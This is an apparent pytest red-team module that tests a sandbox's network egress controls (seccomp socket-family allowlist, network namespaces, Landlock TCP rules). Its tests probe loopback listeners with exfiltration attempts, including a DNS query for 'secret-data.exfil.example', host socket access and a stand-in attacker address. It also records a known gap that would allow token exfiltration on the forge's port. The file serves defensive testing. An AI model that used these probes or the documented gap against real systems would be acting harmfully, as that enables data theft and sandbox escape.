"""Red team: network egress and socket families (prior-art §4.1 cases 4-6).

Every listener is on loopback and started by the test; the unsandboxed control reaches it, the
sandboxed probe must not, and the listener must have received nothing from the sandbox.
"""

from __future__ import annotations

import os
import socket
from collections.abc import Callable
from pathlib import Path

import pytest
from tests.redteam._harness import Listener, Outcome, Probes, run_host, run_sandboxed

from auto_review.sandbox import landlock

pytestmark = [pytest.mark.redteam, pytest.mark.sandbox]

Serve = Callable[..., Listener]

_NO_INET = frozenset({"EPERM"})
"""The `run` policy has no network: seccomp's socket-family allowlist (AF_UNIX only) refuses
the inet socket itself with EPERM, before the empty network namespace would be reached."""


def _sandboxed(
    probes: Probes, python_view: tuple[Path, ...], argv: list[str], *, net: bool = False
) -> Outcome:
    return run_sandboxed([*probes.pyprobe, *argv], ro=[probes.directory, *python_view], net=net)


def _assert_denied(box: Outcome, expected: frozenset[str]) -> None:
    assert box.result is not None, f"the probe never ran inside the sandbox: {box.describe()}"
    assert not box.ok, f"the attack worked inside the sandbox: {box.describe()}"
    assert box.errno in expected, f"expected one of {sorted(expected)}: {box.describe()}"


def _assert_listener_unreachable(
    probes: Probes,
    listener: Listener,
    argv: list[str],
    expected: frozenset[str],
    sandboxed: Callable[[list[str]], Outcome],
) -> None:
    """The probe reaches ``listener`` from the host, is refused with one of ``expected`` inside
    the sandbox, and the listener hears nothing from the sandboxed attempt."""
    host = run_host([*probes.pyprobe, *argv])
    assert host.ok, host.describe()
    seen = len(listener.received)
    _assert_denied(sandboxed(argv), expected)
    assert len(listener.received) == seen, "the host listener heard from the sandbox"


def test_tcp_connect_to_host_loopback_is_blocked_by_socket_family_allowlist(
    probes: Probes, python_view: tuple[Path, ...], serve: Serve
) -> None:
    """Attack: connect to a service on the host's 127.0.0.1 (metadata proxies, admin ports).
    Control: the `run` policy's socket-family allowlist (EPERM), with an empty network
    namespace (its 127.0.0.1 is its own) behind it. Reference: §4.1 case 4; Codex network
    tests."""
    listener = serve("tcp")
    argv = ["tcp", "127.0.0.1", str(listener.port)]
    _assert_listener_unreachable(
        probes,
        listener,
        argv,
        _NO_INET,
        lambda a: _sandboxed(probes, python_view, a),
    )


def test_tcp_connect_with_net_flag_reaches_host_loopback(
    probes: Probes, python_view: tuple[Path, ...], serve: Serve
) -> None:
    """Positive control: with --net the sandbox shares the host network, so the same probe
    reaches the same listener (the denial above is the namespace, not a broken probe)."""
    listener = serve("tcp")
    box = _sandboxed(probes, python_view, ["tcp", "127.0.0.1", str(listener.port)], net=True)
    assert box.ok, box.describe()
    assert listener.received


def test_udp_datagram_to_host_loopback_is_blocked_by_socket_family_allowlist(
    probes: Probes, python_view: tuple[Path, ...], serve: Serve
) -> None:
    """Attack: exfiltrate over UDP to the host's loopback. Control: socket-family allowlist
    (EPERM), empty network namespace behind it; the host listener must receive nothing.
    Reference: §4.1 case 4."""
    listener = serve("udp")
    argv = ["udp", "127.0.0.1", str(listener.port)]
    _assert_listener_unreachable(
        probes,
        listener,
        argv,
        _NO_INET,
        lambda a: _sandboxed(probes, python_view, a),
    )


def test_dns_query_to_host_resolver_is_blocked_by_socket_family_allowlist(
    probes: Probes, python_view: tuple[Path, ...], serve: Serve
) -> None:
    """Attack: DNS exfiltration (data in query names) through a resolver on the host's
    loopback. Control: socket-family allowlist (EPERM), empty network namespace behind it;
    the fake resolver must see no query. Reference: §4.1 case 4; srt "empty allowlist blocks
    DNS"."""
    resolver = serve("dns")
    argv = ["dns", "127.0.0.1", str(resolver.port), "secret-data.exfil.example"]
    _assert_listener_unreachable(
        probes,
        resolver,
        argv,
        _NO_INET,
        lambda a: _sandboxed(probes, python_view, a),
    )


def test_abstract_unix_socket_connect_is_blocked_by_network_namespace(
    probes: Probes, python_view: tuple[Path, ...], serve: Serve
) -> None:
    """Attack: connect to a host service on an abstract unix socket (no file, so no mount view
    hides it; X11 and many daemons use them). Control: abstract sockets belong to the network
    namespace -> ECONNREFUSED; Landlock scoping (ABI >= 6) would say EPERM.
    Reference: §4.1 case 5; E7."""
    listener = serve("abstract")
    argv = ["unix", str(listener.address)]
    _assert_listener_unreachable(
        probes,
        listener,
        argv,
        frozenset({"ECONNREFUSED", "EPERM"}),
        lambda a: _sandboxed(probes, python_view, a),
    )


def test_path_unix_socket_connect_is_blocked_by_filesystem_view(
    probes: Probes, python_view: tuple[Path, ...], serve: Serve, fake_home: Path
) -> None:
    """Attack: connect to a host daemon's socket file (think /run/docker.sock): a read-only
    bind does not stop connect(2). Control: the socket is outside the view -> ENOENT (Landlock
    would say EACCES). Reference: §4.1 case 5."""
    listener = serve("unix", fake_home / "agent.sock")
    argv = ["unix", str(listener.address)]
    _assert_listener_unreachable(
        probes,
        listener,
        argv,
        frozenset({"ENOENT", "EACCES"}),
        lambda a: _sandboxed(probes, python_view, a),
    )


def test_unix_socketpair_still_works_in_sandbox(
    probes: Probes, python_view: tuple[Path, ...]
) -> None:
    """Positive control: AF_UNIX stays allowed (git and Python's own machinery need it)."""
    box = _sandboxed(probes, python_view, ["socketpair"])
    assert box.ok, box.describe()


@pytest.mark.parametrize(
    ("family", "needs_caps"),
    [("netlink", False), ("packet", True), ("inet_raw", True), ("alg", False), ("vsock", False)],
)
def test_exotic_socket_family_is_blocked_by_seccomp(
    probes: Probes, python_view: tuple[Path, ...], family: str, *, needs_caps: bool
) -> None:
    """Attack: open a socket of a family with a history of kernel bugs or an escape path:
    netlink (routing/audit), packet and raw (sniffing, spoofing), alg (crypto API bugs), vsock
    (hypervisor channel). Control: the `run` policy's socket-family allowlist in seccomp ->
    EPERM. The host control enters its own user+net namespaces where the
    family needs CAP_NET_RAW. Reference: §4.1 case 6; Docker AF_ALG/VSOCK rules; Flatpak."""
    argv = ["family", family, *(["--userns"] if needs_caps and os.geteuid() != 0 else [])]
    host = run_host([*probes.pyprobe, *argv])
    if not host.ok and host.errno == "EAFNOSUPPORT":
        pytest.skip(
            f"this kernel does not offer AF_{family.upper()} at all (EAFNOSUPPORT on the "
            "host), so the control cannot succeed"
        )
    assert host.ok, host.describe()
    box = _sandboxed(probes, python_view, argv)
    _assert_denied(box, frozenset({"EPERM"}))


def test_abstract_unix_socket_is_blocked_by_landlock_scope_when_network_is_shared(
    probes: Probes, python_view: tuple[Path, ...], serve: Serve
) -> None:
    """Attack: with the host network shared (--net, and the gateway policy), abstract unix
    sockets of host daemons are in the same namespace. Control: Landlock scoping of abstract
    sockets (ABI >= 6) -> EPERM, where the empty namespace would have said ECONNREFUSED.
    Reference: §4.1 case 5; §1.11 (ABI 6); E7."""
    if landlock.abi_version() < 6:
        pytest.skip(f"Landlock ABI {landlock.abi_version()} < 6 cannot scope abstract sockets")
    listener = serve("abstract")
    argv = ["unix", str(listener.address)]
    _assert_listener_unreachable(
        probes,
        listener,
        argv,
        frozenset({"EPERM"}),
        lambda a: _sandboxed(probes, python_view, a, net=True),
    )


def test_clone_policy_connect_to_unlisted_port_is_blocked_by_landlock_tcp_rule(
    probes: Probes, python_view: tuple[Path, ...], serve: Serve, scratch: Path
) -> None:
    """Attack: a hostile repository makes git reach a port other than the forge's (an internal
    admin service on the host). Control: the clone policy's Landlock TCP connect rule
    (ABI >= 4) allows only the listed ports -> EACCES; the listed port works (positive
    control). Reference: §1.11 (Landlock TCP is port-only); DESIGN.md clone policy."""
    if landlock.abi_version() < 4:
        pytest.skip(f"Landlock ABI {landlock.abi_version()} < 4 has no TCP rules")
    forge, other = serve("tcp"), serve("tcp")
    host = run_host([*probes.pyprobe, "tcp", "127.0.0.1", str(other.port)])
    assert host.ok, host.describe()
    seen = len(other.received)
    options = ["--port", str(forge.port)]
    ro = [probes.directory, *python_view]
    box = run_sandboxed(
        [*probes.pyprobe, "tcp", "127.0.0.1", str(other.port)],
        policy="clone",
        ro=ro,
        rw=[scratch],
        options=options,
    )
    _assert_denied(box, frozenset({"EACCES"}))
    assert len(other.received) == seen
    allowed = run_sandboxed(
        [*probes.pyprobe, "tcp", "127.0.0.1", str(forge.port)],
        policy="clone",
        ro=ro,
        rw=[scratch],
        options=options,
    )
    assert allowed.ok, allowed.describe()


def _free_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def test_gateway_policy_listen_on_unlisted_port_is_blocked_by_landlock_bind_rule(
    probes: Probes, python_view: tuple[Path, ...], scratch: Path
) -> None:
    """Attack: a compromised gateway opens a second listening port (a backdoor on the host
    network it shares). Control: the gateway policy's Landlock TCP bind rule allows only its
    --listen port -> EACCES; that port binds fine (positive control).
    Reference: DESIGN.md gateway policy; Landlock ABI 4."""
    if landlock.abi_version() < 4:
        pytest.skip(f"Landlock ABI {landlock.abi_version()} < 4 has no TCP rules")
    listen, backdoor = _free_port(), _free_port()
    host = run_host([*probes.pyprobe, "bind", "127.0.0.1", str(backdoor)])
    assert host.ok, host.describe()
    options = ["--listen", str(listen)]
    ro = [probes.directory, *python_view]
    box = run_sandboxed(
        [*probes.pyprobe, "bind", "127.0.0.1", str(backdoor)],
        policy="gateway",
        ro=ro,
        rw=[scratch],
        options=options,
    )
    _assert_denied(box, frozenset({"EACCES"}))
    allowed = run_sandboxed(
        [*probes.pyprobe, "bind", "127.0.0.1", str(listen)],
        policy="gateway",
        ro=ro,
        rw=[scratch],
        options=options,
    )
    assert allowed.ok, allowed.describe()


@pytest.mark.xfail(
    strict=True,
    reason="F9 (docs/dev/REDTEAM-FINDINGS.md): the clone policy shares the host network and "
    "Landlock's TCP rule is port-only, so any address on the forge's port is reachable",
)
def test_clone_policy_egress_to_other_host_on_forge_port_is_blocked_by_egress_proxy(
    probes: Probes, python_view: tuple[Path, ...], serve: Serve, scratch: Path
) -> None:
    """Attack: git exploited by a hostile repository, holding the forge token in its
    environment, sends the token to the attacker's server on the forge's own port (443 in
    production; here 127.0.0.2 stands for the attacker, 127.0.0.1 for the forge, both
    loopback). Control expected: egress only to the forge's address (an empty network
    namespace with a forge-only proxy, prior-art §7.2); Landlock alone cannot name an address.
    Reference: §1.11 "Landlock TCP rules are port-only"; §4.1 case 4."""
    if landlock.abi_version() < 4:
        pytest.skip(f"Landlock ABI {landlock.abi_version()} < 4 has no TCP rules")
    forge = serve("tcp")
    try:
        attacker = serve("tcp", host="127.0.0.2", port=forge.port)
    except OSError as exc:
        pytest.skip(f"cannot listen on 127.0.0.2:{forge.port}: {exc}")
    argv = ["tcp", "127.0.0.2", str(forge.port)]
    host = run_host([*probes.pyprobe, *argv])
    assert host.ok, host.describe()
    seen = len(attacker.received)
    box = run_sandboxed(
        [*probes.pyprobe, *argv],
        policy="clone",
        ro=[probes.directory, *python_view],
        rw=[scratch],
        options=["--port", str(forge.port)],
    )
    _assert_denied(box, frozenset({"ENETUNREACH", "ECONNREFUSED", "EACCES", "EPERM"}))
    assert len(attacker.received) == seen, "the attacker's server got the connection"
